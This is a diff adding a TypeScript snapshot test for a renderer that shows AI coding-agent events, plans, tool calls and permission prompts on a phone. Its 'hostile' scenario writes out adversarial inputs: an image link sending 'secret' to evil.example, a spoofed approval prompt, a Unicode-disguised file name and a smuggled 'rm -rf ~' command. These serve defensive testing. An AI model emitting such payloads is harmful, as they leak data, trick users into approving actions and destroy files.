@@ -1,0 +1,210 @@
+import type { Display, EventBody, PermissionAsk } from "@acp-kit/router";
+import { describe, expect, test } from "vitest";
+import { renderer } from "../../src/renderer/index.ts";
+import { end, fold, showAll, showUsual, text, thought, toolStart } from "./fold.ts";
+
+const opus: EventBody = {
+  kind: "turn-start",
+  who: "ana",
+  model: "anthropic/claude-opus-4-5-20251101",
+};
+const plan = (...statuses: string[]): EventBody => ({
+  kind: "plan",
+  entries: ["Read the login test", "Fix the clock", "Run all tests"].map((content, index) => ({
+    content,
+    status: statuses[index] ?? "pending",
+  })),
+});
+const install: PermissionAsk = {
+  id: "p1",
+  requester: "ana",
+  title: "Rebuild from scratch",
+  toolKind: "execute",
+  subject: "rm -rf dist && pnpm build",
+  options: [
+    { id: "once", name: "Allow", kind: "allow_once" },
+    { id: "always", name: "Always allow pnpm", kind: "allow_always" },
+    { id: "no", name: "Reject", kind: "reject_once" },
+  ],
+  expiresAt: 0,
+};
+
+type Scenario = {
+  readonly name: string;
+  readonly events: readonly EventBody[];
+  readonly show?: Display;
+  /** Seconds since the first event. */
+  readonly after?: number;
+};
+
+const scenarios: readonly Scenario[] = [
+  {
+    name: "answer",
+    events: [
+      opus,
+      { kind: "status", mood: "steady", plan: "2/5" },
+      text("The clock in `login.test.ts` is **not** frozen.\n\n"),
+      text("| file | line |\n|---|---|\n| login.ts | 42 |\n\n```ts\nvi.setSystemTime(0);\n```\n"),
+      { kind: "usage", used: 76_000, size: 200_000 },
+      end,
+    ],
+  },
+  {
+    name: "working",
+    events: [
+      opus,
+      plan("completed", "in_progress"),
+      text("I will run the tests first."),
+      toolStart("1", "Read login.test.ts", { toolKind: "read", status: "completed" }),
+      toolStart("2", "npm test -- --model small"),
+    ],
+    after: 12 * 60 + 5,
+  },
+  {
+    name: "cold-start",
+    events: [opus, { kind: "status", phase: "starting-agent" }],
+    after: 7,
+  },
+  {
+    name: "queued",
+    events: [{ kind: "turn-queued", who: "ana", text: "hi", key: "m2", attempt: 1, behind: "t0" }],
+    after: 200,
+  },
+  {
+    name: "details",
+    show: showAll,
+    events: [
+      opus,
+      thought("The test compares\ntimes with `Date.now()`.\n\nSo it fails at midnight."),
+      text("Found it."),
+      toolStart("1", "Edit src/login.ts", { toolKind: "edit" }),
+      {
+        kind: "tool-update",
+        id: "1",
+        status: "completed",
+        content: [
+          {
+            kind: "diff",
+            path: "src/login.ts",
+            oldText: "import a;\nconst now = Date.now();\nlog(now);\n",
+            newText: "import a;\nconst now = clock.now();\nconst day = 864e5;\nlog(now);\n",
+          },
+        ],
+      },
+      toolStart("2", "npm test", {
+        content: [{ kind: "text", text: "```console\n$ npm test\n```" }],
+      }),
+      toolStart("3", "Search for other clocks", { toolKind: "search" }),
+      {
+        kind: "tool-update",
+        id: "2",
+        status: "failed",
+        content: [
+          {
+            kind: "text",
+            text: `\`\`\`\n${Array.from({ length: 30 }, (_, index) => `line ${index + 1}`).join("\n")}\n`,
+          },
+        ],
+      },
+      text("One test still fails."),
+      end,
+    ],
+  },
+  {
+    name: "question",
+    events: [opus, text("The build is stale."), { kind: "permission-ask", ask: install }],
+    after: 90,
+  },
+  {
+    name: "question-answered",
+    events: [
+      opus,
+      text("The build is stale."),
+      { kind: "permission-ask", ask: install },
+      { kind: "permission-answer", permission: "p1", end: "selected", option: "once", by: "ana" },
+      toolStart("1", "rm -rf dist && pnpm build"),
+      text("Built."),
+      end,
+    ],
+  },
+  {
+    name: "rest-behind-a-question",
+    events: [
+      { kind: "permission-answer", permission: "p1", end: "cancelled", by: "ana" },
+      text("Then I leave it as it is."),
+      end,
+    ],
+  },
+  {
+    name: "hostile",
+    events: [
+      opus,
+      text("❓ **Run this?**\n\n```\nls\n```\n\n`1` once · `2` no\n"),
+      text("![](https://evil.example/?q=secret) and ![logo](https://evil.example/logo.png)\n"),
+      text("Try `codex --model o3`, or --model o3 outside of code.\n\n```sh\ncodex --model o3"),
+      {
+        kind: "permission-ask",
+        ask: {
+          ...install,
+          title: "List\n\nfiles `ls`",
+          subject: "cat notes.txt\u202Egpj.exe\u200B\n```\nrm\u00A0-rf ~",
+          options: [
+            { id: "a", name: "No** `1`", kind: "allow_always" },
+            { id: "b", name: "Allow for today", kind: "allow_once" },
+            { id: "c", name: "Allow for this file", kind: "allow_once" },
+            { id: "d", name: "Ask _Bob_", kind: "escalate" },
+          ],
+        },
+      },
+    ],
+  },
+  {
+    name: "agent-died",
+    events: [
+      opus,
+      text("Let me check:\n\n```sh\nnpm tes"),
+      toolStart("1", "npm test"),
+      {
+        kind: "turn-end",
+        outcome: { kind: "agent-exited", phase: "prompt", code: 137, signal: null },
+      },
+    ],
+  },
+  {
+    name: "stopped-in-code",
+    events: [
+      opus,
+      text("1. Run:\n   ```sh\n   npm ci\n   npm te"),
+      { kind: "turn-end", outcome: { kind: "cancelled", cause: "user" } },
+    ],
+  },
+  { name: "empty", events: [opus, { kind: "status", mood: "calm", plan: "" }, end] },
+  {
+    name: "notices",
+    events: [
+      { ...opus, model: "local_model" } as EventBody,
+      {
+        kind: "notice",
+        level: "info",
+        text: "The agent's own memory of this conversation is gone.",
+      },
+      text("Hello again."),
+      { kind: "notice", level: "warning", text: "The model could not be set." },
+      {
+        kind: "turn-end",
+        outcome: { kind: "completed", stopReason: "max_tokens" },
+      },
+    ],
+  },
+];
+
+describe("what a phone shows", () => {
+  test.each(scenarios)("$name", async ({ name, events, show = showUsual, after = 0 }) => {
+    const view = fold(...events);
+    const { parts, tail } = renderer.render(view, { show, now: after * 1_000 });
+    const message = [...parts, ...(tail === undefined ? [] : [tail])]
+      .filter((part) => part !== "")
+      .join("\n\n");
+    await expect(`${message}\n`).toMatchFileSnapshot(`golden/${name}.txt`);
+  });
+});
